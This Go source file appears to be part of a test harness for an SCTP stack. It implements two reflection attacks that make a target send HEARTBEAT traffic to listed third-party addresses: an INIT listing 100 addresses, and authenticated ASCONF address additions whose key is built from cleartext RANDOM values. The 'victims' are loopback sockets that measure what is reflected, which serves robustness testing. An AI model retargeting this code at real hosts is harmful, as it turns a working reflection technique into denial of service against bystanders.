package main

import (
	"bytes"
	"context"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha1"
	"encoding/binary"
	"errors"
	"net"
	"net/netip"
	"sync"
	"time"

	"github.com/usctp/usctp/sctp/chunk"
)

// Reflection through the peer's addresses (RFC 9260 section 5.4, RFC
// 5061): the addresses an INIT or an ASCONF lists need not be the
// attacker's, and each HEARTBEAT the target sends to one that never
// answers lands on a third party, a victim. The victims here are 31
// loopback addresses (127.0.0.2 to 127.0.0.32, which a peer on loopback
// may list) whose UDP sockets, at the attacker's encapsulation port,
// count what arrives and never answer; the report's victims= and
// reflect= say what they got, against what the attacker sent. The target
// must be on 127.0.0.1 and use the peer's other addresses
// (sctpcat -multihome; -dynamic-addrs for asconfaddrs).

// reflectVictims is how many victim addresses the patterns list: the
// target keeps 32 addresses of a peer, its source among them.
const reflectVictims = 31

// victimIP returns the i-th victim address (0-based).
func victimIP(i int) netip.Addr { return netip.AddrFrom4([4]byte{127, 0, 0, byte(2 + i)}) }

// victims are the UDP sockets of the victim addresses.
type victims struct {
	conns []*net.UDPConn
	wg    sync.WaitGroup
	mu    sync.Mutex
	got   counter
}

// openVictims binds a socket on each victim address at the attacker's UDP
// port, each counting what it receives until close.
func openVictims(p *peer) (*victims, error) {
	port := p.conn.LocalAddr().(*net.UDPAddr).Port
	v := &victims{}
	for i := range reflectVictims {
		c, err := net.ListenUDP("udp4", net.UDPAddrFromAddrPort(netip.AddrPortFrom(victimIP(i), uint16(port))))
		if err != nil {
			v.close()
			return nil, err
		}
		v.conns = append(v.conns, c)
		v.wg.Add(1)
		go func() {
			defer v.wg.Done()
			buf := make([]byte, 65536)
			for {
				n, err := c.Read(buf)
				if err != nil {
					return
				}
				v.mu.Lock()
				v.got.add(n)
				v.mu.Unlock()
			}
		}()
	}
	return v, nil
}

// close closes the sockets and returns what they received.
func (v *victims) close() counter {
	for _, c := range v.conns {
		c.Close()
	}
	v.wg.Wait()
	return v.got
}

// keepAlive answers the target's HEARTBEATs to the attacker's own address
// (as the attacker must, or the association ends) until pace says stop,
// calling every (when not nil) once a minute, first at once.
func (p *peer) keepAlive(pace func() bool, every func() error) error {
	next := time.Now()
	for pace() {
		if every != nil && !time.Now().Before(next) {
			next = time.Now().Add(time.Minute)
			if err := every(); err != nil {
				return err
			}
		}
		pkt := p.recv(20 * time.Millisecond)
		if pkt == nil {
			continue
		}
		if c, ok := find(pkt, chunk.TypeHeartbeat); ok {
			b, _ := chunk.Chunk{Type: chunk.TypeHeartbeatAck, Value: c.Value}.Append(p.header(p.peerTag))
			if err := p.send(b); err != nil {
				return err
			}
		}
		if _, ok := find(pkt, chunk.TypeAbort); ok {
			return errors.New("the target aborted the association")
		}
	}
	return nil
}

// reflectRun opens the victims, runs the attack body f, and adds what the
// victims got to p.reflected.
func reflectRun(p *peer, f func() error) error {
	v, err := openVictims(p)
	if err != nil {
		return err
	}
	err = f()
	p.reflected = v.close()
	return err
}

// initAddrs: a handshake whose INIT lists 100 addresses (the 31 victims
// first, the others unbound), then the association kept alive.
func initAddrs(ctx context.Context, p *peer, pace func() bool) error {
	return reflectRun(p, func() error {
		params := initParams()
		for i := range 100 {
			params, _ = chunk.AppendAddrParam(params, victimIP(i))
		}
		if _, err := p.handshakeWith(1, params); err != nil {
			return err
		}
		defer p.abort()
		return p.keepAlive(pace, nil)
	})
}

// asconfAddrs: a handshake with AUTH and ASCONF (the AUTH key comes from
// the RANDOM values exchanged in clear: any peer has it), then ASCONFs
// adding the 31 victims, deleted and added again every minute, the
// association kept alive.
func asconfAddrs(ctx context.Context, p *peer, pace func() bool) error {
	return reflectRun(p, func() error {
		var random [32]byte
		rand.Read(random[:])
		chunks := []byte{byte(chunk.TypeASCONF), byte(chunk.TypeASCONFAck)}
		hmacs := []byte{0, byte(chunk.HMACSHA1)}
		params := chunk.AppendEmptyParam(nil, chunk.ParamForwardTSNSupported)
		params, _ = chunk.AppendParam(params, chunk.ParamSupportedExtensions, []byte{byte(chunk.TypeReconfig),
			byte(chunk.TypeForwardTSN), byte(chunk.TypeASCONF), byte(chunk.TypeASCONFAck), byte(chunk.TypeAuth)})
		params, _ = chunk.AppendParam(params, chunk.ParamRandom, random[:])
		params, _ = chunk.AppendParam(params, chunk.ParamChunkList, chunks)
		params, _ = chunk.AppendParam(params, chunk.ParamHMACAlgo, hmacs)
		serial := uint32(p.tsn) // the first ASCONF's (RFC 5061 section 5.1)
		ack, err := p.handshakeWith(1, params)
		if err != nil {
			return err
		}
		defer p.abort()
		ours := tlv(chunk.ParamRandom, random[:])
		ours = append(ours, tlv(chunk.ParamChunkList, chunks)...)
		ours = append(ours, tlv(chunk.ParamHMACAlgo, hmacs)...)
		var theirs []byte
		for _, t := range []chunk.ParamType{chunk.ParamRandom, chunk.ParamChunkList, chunk.ParamHMACAlgo} {
			if q, ok := ack.Find(t); ok {
				theirs = append(theirs, tlv(t, q.Value)...)
			}
		}
		// RFC 4895 section 6.1: the smaller key vector first.
		lo, hi := ours, theirs
		if len(lo) > len(hi) || len(lo) == len(hi) && bytes.Compare(lo, hi) > 0 {
			lo, hi = hi, lo
		}
		key := append(append([]byte(nil), lo...), hi...)
		send := func(typ chunk.ParamType) error {
			for first := 0; first < reflectVictims; first += 16 {
				m := chunk.ASCONF{Serial: serial, Address: chunk.Param{Type: chunk.ParamIPv4Address, Value: []byte{127, 0, 0, 1}}}
				for i := first; i < min(first+16, reflectVictims); i++ {
					m.Params, _ = chunk.AppendASCONFAddrParam(m.Params, typ, uint32(i+1), victimIP(i))
				}
				serial++
				b := p.header(p.peerTag)
				auth := len(b)
				b = append(b, byte(chunk.TypeAuth), 0, 0, 28, 0, 0, 0, byte(chunk.HMACSHA1))
				b = append(b, make([]byte, 20)...)
				b, _ = m.Append(b)
				h := hmac.New(sha1.New, key)
				h.Write(b[auth:])
				copy(b[auth+8:], h.Sum(nil))
				if err := p.send(b); err != nil {
					return err
				}
			}
			return nil
		}
		added := false
		return p.keepAlive(pace, func() error {
			if added {
				if err := send(chunk.ParamDeleteIPAddress); err != nil {
					return err
				}
			}
			added = true
			return send(chunk.ParamAddIPAddress)
		})
	})
}

// tlv is a parameter without its padding (a key vector's part).
func tlv(t chunk.ParamType, v []byte) []byte {
	b := binary.BigEndian.AppendUint16(nil, uint16(t))
	b = binary.BigEndian.AppendUint16(b, uint16(4+len(v)))
	return append(b, v...)
}
